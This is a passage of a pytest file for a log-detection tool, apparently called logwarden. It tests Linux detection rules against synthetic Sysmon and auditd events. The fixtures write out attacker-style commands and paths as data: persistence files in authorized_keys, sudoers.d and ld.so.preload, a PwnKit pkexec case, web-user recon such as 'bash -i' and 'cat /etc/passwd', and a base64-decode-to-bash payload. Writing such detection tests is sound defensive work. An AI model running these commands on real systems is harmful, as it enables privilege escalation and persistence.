    ("lw-linux-ssh-authorized-keys-file-created", "high", "/root/.ssh/authorized_keys", "/usr/bin/bash",
     "/usr/bin/python3.10"),
    ("lw-linux-profile-script-created", "medium", "/etc/profile.d/locale-fix.sh", "/usr/bin/wget", "/usr/bin/dpkg"),
    ("lw-linux-sudoers-file-created", "high", "/etc/sudoers.d/90-mallory", "/usr/bin/dash", "/usr/sbin/visudo"),
])
def test_persistence_files_created_by_a_shell_or_downloader(rules, rule_id, level, target, image, quiet_image):  # noqa: F811
    assert hits(rules, [sysmon_file(target, image)], rule_id) == [(level, [1])]
    assert hits(rules, [sysmon_file(target, quiet_image)], rule_id) == []
    assert hits(rules, [sysmon_file("/home/bob/notes/cron.d.txt", image)], rule_id) == []


def test_ld_so_preload_created_in_sysmon_and_auditd(rules):  # noqa: F811
    assert hits(rules, [sysmon_file("/etc/ld.so.preload", "/usr/bin/bash")], "lw-linux-ld-preload-file-created") \
        == [("high", [1])]
    assert hits(rules, [sysmon_file("/etc/ld.so.conf.d/x.conf", "/usr/bin/bash")], "lw-linux-ld-preload-file-created") == []
    stamp = "audit(1714642200.100:7001)"
    path = (f'type=PATH msg={stamp}: item=1 name="/etc/ld.so.preload" inode=1311 dev=08:01 mode=0100644 ouid=0 '
            f"ogid=0 rdev=00:00 nametype={{}} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
    created, read = (parse_lines([LogLine("audit.log", 0, 0, 1, path.format(kind))], "auditd") for kind in ("CREATE", "NORMAL"))
    assert hits(rules, list(created), "lw-auditd-ld-preload-created") == [("high", [1])]
    assert hits(rules, list(read), "lw-auditd-ld-preload-created") == []  # every program start reads it


# --- rules that read more than the command line -----------------------------------------------------


def test_pkexec_with_no_arguments_is_pwnkit(rules):  # noqa: F811
    [record] = parse_lines([LogLine("audit.log", 0, 0, 1, "type=EXECVE msg=audit(1714642200.200:7002): argc=0")], "auditd")
    assert hits(rules, [record], "lw-linux-pkexec-empty-argv") == [("high", [1])]
    assert hits(rules, [sysmon("", "/usr/bin/pkexec")], "lw-linux-pkexec-empty-argv") == [("high", [1])]
    quiet = [sysmon("pkexec /usr/sbin/gparted", "/usr/bin/pkexec"), audit(["pkexec", "/usr/sbin/gparted"]),
             sysmon("", "/usr/bin/true")]
    assert [h for e in quiet for h in hits(rules, [e], "lw-linux-pkexec-empty-argv")] == []


def test_web_server_account_running_recon_commands(rules):  # noqa: F811
    for command in ("whoami", "id", "uname -a", "bash -i", "cat /etc/passwd"):
        assert hits(rules, [sysmon(command, user="www-data", parent="/usr/sbin/apache2")], "lw-linux-web-user-recon") \
            == [("high", [1])], command
    # auoms (Azure Log Analytics) names the user too: the Log4Shell capture's tomcat shell
    [row] = parse_lines([auoms_row("whoami", exe="/usr/bin/whoami", comm="whoami")], "json")
    assert hits(rules, [row], "lw-linux-web-user-recon") == [("high", [1])]
    quiet = [sysmon("convert /var/www/uploads/a.jpg -resize 200x200 t.jpg", user="www-data"),
             sysmon("sh -c /usr/sbin/sendmail -t -i", user="www-data"), sysmon("whoami", user="alice"),
             sysmon("php /var/www/html/cron.php", user="www-data")]
    assert [h for e in quiet for h in hits(rules, [e], "lw-linux-web-user-recon")] == []


def test_adhoc_web_server_in_a_temp_or_sensitive_folder(rules):  # noqa: F811
    rule = "lw-linux-adhoc-http-server"
    assert hits(rules, [sysmon("python3 -m http.server 8080", cwd="/tmp")], rule) == [("medium", [1])]
    assert hits(rules, [sysmon("python3 -m http.server 8000 --directory /", cwd="/home/bob")], rule) == [("medium", [1])]
    assert hits(rules, [audit(["php", "-S", "0.0.0.0:8000", "-t", "/etc"])], rule) == [("medium", [1])]
    assert hits(rules, [sysmon("python3 -m http.server 8000", cwd="/home/bob/site/public")], rule) == []
    assert hits(rules, [sysmon("python3 -m venv /tmp/env", cwd="/tmp")], rule) == []


def test_discovery_burst_is_low_and_needs_many_different_commands(rules):  # noqa: F811
    burst = ["whoami", "id", "uname -a", "cat /etc/os-release", "ip a", "netstat -antp", "ps aux", "last",
             "cat /etc/passwd", "sudo -l"]
    events = [sysmon(command, line_no=i) for i, command in enumerate(burst, 1)]
    assert [level for level, _ in hits(rules, events, "lw-linux-discovery-burst")] == ["low"]
    # an administrator's few checks, or one command repeated, are not a burst
    calm = [sysmon(command, line_no=i) for i, command in enumerate(["uname -a", "df -h", "ps aux", "ps aux", "id"] * 3, 1)]
    assert hits(rules, calm, "lw-linux-discovery-burst") == []


def test_a_long_encoded_argument_logged_in_pieces_still_reaches_the_rules(rules):  # noqa: F811
    payload = "echo " + "QUJD" * 2500 + " | base64 -d | bash"
    cut = 7500
    text = (f'type=EXECVE msg=audit(1714642200.300:7003): argc=3 a0="bash" a1="-c" a2_len={len(payload)} '
            f"a2[0]={payload[:cut].encode().hex().upper()} a2[1]={payload[cut:].encode().hex().upper()}")
    [record] = parse_lines([LogLine("audit.log", 0, 0, 1, text)], "auditd")
    assert hits(rules, [record], "lw-linux-decode-to-shell") == [("high", [1])]


def test_rules_lists_linux_process_rules_under_auditd_and_windows_formats():
    from logwarden.app.detect.logsource import formats_of

    assert formats_of("linux", "process_creation", None) == {"auditd", "windows"}
    assert formats_of("windows", "process_creation", None) == {"windows"}
    assert formats_of("linux", "file_event", None) == {"windows"}
